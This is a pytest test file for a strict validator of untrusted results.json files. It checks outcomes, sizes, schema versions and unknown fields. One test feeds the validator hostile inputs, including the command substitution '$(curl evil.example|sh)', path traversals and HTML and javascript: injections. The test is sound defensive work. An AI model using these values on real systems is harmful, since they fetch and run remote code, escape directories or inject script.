"""emscripten_python.results.validation: strict checks of an untrusted results.json, all problems at once."""

from __future__ import annotations

import copy
import json
from pathlib import Path

import pytest

from emscripten_python.errors import ResultsError
from emscripten_python.results.validation import Limits, load_validated, validate_results

EXAMPLE = Path(__file__).resolve().parents[2] / "docs" / "examples" / "results.json"


@pytest.fixture
def data() -> dict:
    return json.loads(EXAMPLE.read_text())


def _problems(data, limits=Limits()) -> str:
    with pytest.raises(ResultsError) as caught:
        validate_results(data, limits)
    assert caught.value.exit_code == 40
    return str(caught.value)


def test_the_documented_example_and_a_schema_2_run_are_valid(data):
    validate_results(data)
    v2 = {**copy.deepcopy(data), "schema_version": 2, "outcome": "cancelled",
          "cancelled": {"command": "test", "signal": "SIGTERM"}, "pythoninfo": {"host": {"status": "ok"}},
          "comparison": {"baseline": "abc", "new_failures": []}, "shard": None, "runtimes": []}
    validate_results(v2)


def test_every_problem_is_listed_with_its_place(data):
    data["outcome"] = "$(curl evil.example|sh)"
    data["run_id"] = "../../etc"
    data["tests"]["files"][0]["name"] = "@python/core <img src=x>"
    data["tests"]["files"][0]["duration"] = float("nan")
    data["tests"]["files"][1]["tests_run"] = "12"
    data["stages"][0]["status"] = True
    data["artifacts"][0]["path"] = "../../secrets"
    data["origin"]["url"] = "javascript:alert(1)"
    message = _problems(data)
    assert message.startswith("results.json is not valid (8 problems):")
    for expected in ("outcome: '$(curl evil.example|sh)' is not one of pending, success, failure, warnings, error",
                     "run_id: '../../etc' has characters", "tests.files[0].name: '@python/core <img src=x>'",
                     "tests.files[0].duration: nan is not a finite number",
                     "tests.files[1].tests_run: expected an integer, got a string",
                     "stages[0].status: expected a string, got a boolean",
                     "artifacts[0].path: '../../secrets' is not a plain relative path",
                     "origin.url: 'javascript:alert(1)'"):
        assert expected in message


def test_cancelled_is_a_schema_2_outcome_only(data):
    data["outcome"] = "cancelled"
    assert "outcome: 'cancelled' is not one of" in _problems(data)
    data["schema_version"] = 2
    validate_results(data)
    data["schema_version"] = 3
    assert "schema_version: 3 is not supported (readable: 1, 2)" in _problems(data)


def test_sizes_are_bounded(data):
    limits = Limits(max_text=1000, max_name=80, max_files=10, max_depth=3, max_problems=2)
    case_file = next(f for f in data["tests"]["files"] if f["cases"])
    case_file["cases"][0]["traceback"] = "x" * 1001
    case_file["cases"][0]["name"] = "t" * 81
    data["toolchain"]["deep"] = {"a": {"b": {"c": {"d": 1}}}}
    message = _problems(data, limits)
    assert "(3 problems)" in message and "... and 1 more" in message
    assert "toolchain.deep.a.b.c: nested deeper than 3 levels" in message
    data = json.loads(EXAMPLE.read_text())
    data["tests"]["files"] *= 3
    assert "tests.files: 15 entries, more than the limit of 10" in _problems(data, limits)


def test_unknown_fields_in_entries_wrong_shapes_and_non_objects(data):
    next(f for f in data["tests"]["files"] if f["cases"])["cases"][0]["onclick"] = "x"
    data["errors"] = "one string"
    data["tests"]["files"].append(["not", "an", "object"])
    message = _problems(data)
    assert "fields this schema does not define: 'onclick'" in message
    assert "errors: expected a list, got a string" in message
    assert "expected an object, got a list" in message
    with pytest.raises(ResultsError, match="not a JSON object"):
        validate_results([1, 2])


def test_load_validated_checks_size_and_json_constants(tmp_path, data):
    path = tmp_path / "results.json"
    path.write_text(json.dumps(data))
    assert load_validated(path).run_id == data["run_id"]
    with pytest.raises(ResultsError, match="more than the limit of 100"):
        load_validated(path, Limits(max_file_bytes=100))
    path.write_text(json.dumps(data).replace('"duration": 4.812', '"duration": Infinity'))
    with pytest.raises(ResultsError, match="Infinity is not valid JSON"):
        load_validated(path)
    with pytest.raises(ResultsError, match="does not exist"):
        load_validated(tmp_path / "missing.json")
